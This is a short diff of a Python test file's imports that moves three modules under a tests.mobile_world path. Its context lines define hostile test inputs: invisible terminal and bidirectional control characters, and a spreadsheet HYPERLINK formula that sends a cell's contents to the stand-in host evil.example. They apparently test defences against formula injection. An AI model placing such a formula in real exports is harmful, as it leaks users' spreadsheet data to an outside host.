@@ -22,9 +22,9 @@ from mobile_world.domain import DeviceLost, ScreenSize
 from mobile_world.experiment.exports.tables import FORMULA
 from mobile_world.runtime.adb.shell_protocol import command_line
 from mobile_world.runtime.device_sources import SimulatedPhones
-from tests.experiment.recorded import plan, record
-from tests.viewer.played import HARM, HOSTILE
-from tests.viewer.runs import write_run
+from tests.mobile_world.experiment.recorded import plan, record
+from tests.mobile_world.viewer.played import HARM, HOSTILE
+from tests.mobile_world.viewer.runs import write_run
 
 UNSEEN = ("\x1b", "\x07", "\u202e", "\u2066", "\x9b")
 FORMULA_TEXT = '=HYPERLINK("http://evil.example?"&A1)'
